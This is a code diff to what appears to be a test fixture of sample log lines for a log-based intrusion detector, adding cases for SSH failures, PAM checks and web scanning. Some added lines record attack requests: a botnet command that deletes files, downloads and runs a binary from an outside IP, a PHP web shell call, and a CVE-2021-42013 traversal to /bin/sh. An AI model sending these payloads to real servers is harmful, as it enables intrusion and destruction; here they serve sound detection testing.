@@ -84,6 +84,8 @@ FAMILIES = {
         # A user name that reads like the rest of the message.
         _H + "sshd[4711]: Failed password for invalid user from 10.10.1.1 from 61.2.3.4 port"
         " 58946 ssh2",
+        _H + "sshd[24439]: error: Received disconnect from 103.99.0.122: 14: No more user"
+        " authentication methods available. [preauth]",
     ], [
         _H + "sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/grep"
         " sshd[1]: Failed password for /var/log/auth.log",
@@ -199,7 +201,6 @@ FAMILIES = {
         _H + "sshd[4711]: Disconnecting: bad client public DH value",
     ], [
         _H + "sshd[4711]: Server listening on :: port 22.",
-        _H + "sshd[4711]: Connection closed by 61.2.3.4 port 4242 [preauth]",
         _H + "sshd[4711]: Disconnected from user alice 10.1.2.3 port 4242",
         _H + "sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/grep"
         ' "Bad packet length" /var/log/secure',
@@ -243,6 +244,10 @@ FAMILIES = {
         _H + "sshd[4711]: pam_ldap(sshd:auth): Authentication failure; user=alice",
         _H + "unix_chkpwd[4712]: password check failed for user (pi)",
         _H + "sshd(pam_google_authenticator)[4711]: Invalid verification code for web-admin",
+        # The unknown user's check (no remote host: the brute-force rules
+        # cannot count it, the line is still a failure).
+        _H + "sshd[24200]: pam_unix(sshd:auth): check pass; user unknown",
+        "Jun 14 15:16:02 combo sshd(pam_unix)[19937]: check pass; user unknown",
     ], [
         _H + "sshd[4711]: pam_sss(sshd:auth): authentication success; logname= uid=0 euid=0"
         " tty=ssh ruser= rhost=10.1.2.3 user=bob",
@@ -462,6 +467,10 @@ FAMILIES = {
         _WEB + '/_vti_bin/_vti_aut/fp30reg.dll HTTP/1.1" 406 288 "-" "-"',
         _WEB + '/remote_agent.php?action=polldata&poller_id=1&host_id=1&local_data_ids[]=1'
         ' HTTP/1.1" 404 492 "-" "M"',
+        # Botnets' downloads made executable, a PHP shell used.
+        _WEB + '/shell?cd+/tmp;rm+-rf+*;wget+185.245.96.227/bins/arm;chmod+777+/tmp/arm;sh+/tmp/arm'
+        ' HTTP/1.1" 400 226 "-" "-"',
+        _WEB + '/dvwa/hackable/uploads/phpshell.php?cmd=dir HTTP/1.1" 200 419 "-" "Mozilla/5.0"',
     ], [
         _HAPROXY_OK % 200 + '/docs/jndi-lookup-guide.html HTTP/1.1"',
         _OK + '/docs/jndi-lookup-guide.html HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
@@ -516,6 +525,8 @@ FAMILIES = {
         _SYSLOG_WEB + '/static?file=C:\\x5CWindows\\x5Cwin.ini HTTP/1.1" 500 604 "-" "M"',
         _HAPROXY % -1 + '/cgi-bin/x?f=../../../../etc/passwd HTTP/1.1"',
         _HAPROXY % 200 + '/cgi-bin/x?f=../../../../etc/passwd&pad=aaaaaaaaaaaaaaaa',
+        # CVE-2021-42013: the dots encoded twice with a percent.
+        _WEB + '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh HTTP/1.1" 400 226 "-" "-"',
     ], [
         _HAPROXY_OK % 200 + '/docs/etc-passwd-format.html HTTP/1.1"',
         # A client that sent no request before HAProxy's timeout.
@@ -700,6 +711,11 @@ FAMILIES = {
         "[Fri Mar 08 05:22:28.123456 2024] [core:debug] [pid 123:tid 456] protocol.c(1322):"
         " [client 61.2.3.4:5678] AH00569: client sent HTTP/1.1 request without hostname (see"
         " RFC2616 section 14.23): /w00tw00t.at.ISC.SANS.test0:)",
+        _WEB + '/.svn HTTP/1.1" 404 196 "-" "-"',
+        _WEB + '/.profile HTTP/1.1" 404 196 "-" "-"',
+        _WEB + '/ HTTP/1.1" 200 1 "-" "Hello from Palo Alto Networks, find out more about our'
+        ' scans in https://docs-cortex.paloaltonetworks.com/r/1/Cortex-Xpanse/Scanning-activity"',
+        _WEB + '/ HTTP/1.1" 403 233 "-" "l9tcpid/v1.1.0"',
     ], [
         _OK + '/blog/nikto-review.html HTTP/1.1" 200 1024 "https://www.google.com/search?q=nikto"'
         ' "Mozilla/5.0"',
@@ -1131,7 +1147,10 @@ FAMILIES = {
     "accepted login (informational)": ((0x1010,), [
         _H + "sshd[4711]: Accepted publickey for john.doe from 10.1.2.3 port 4242 ssh2",
     ], [
+        # A connection closed before any user was named (a load balancer's
+        # health check, a port scan): no alert.
         _H + "sshd[4711]: Connection closed by 10.1.2.3 port 4242 [preauth]",
+        _H + "sshd[24200]: Connection closed by 173.234.31.186 [preauth]",
     ]),
     "accepted packet (informational)": ((0x8030,), [
         _H + "kernel: [86400.684821] SuSE-FW-ACCEPT IN=eth0 OUT= SRC=61.110.46.148"
